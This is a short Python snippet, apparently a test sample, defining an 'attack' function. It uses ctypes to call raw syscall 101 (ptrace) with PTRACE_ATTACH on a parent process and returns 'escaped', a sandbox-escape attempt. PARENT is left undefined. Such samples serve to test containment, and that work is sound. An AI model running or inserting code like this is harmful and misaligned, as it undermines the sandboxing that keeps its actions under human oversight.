# held
import ctypes


def attack():
    if ctypes.CDLL(None).syscall(101, 16, PARENT, 0, 0) < 0:
        raise OSError
    return "escaped"
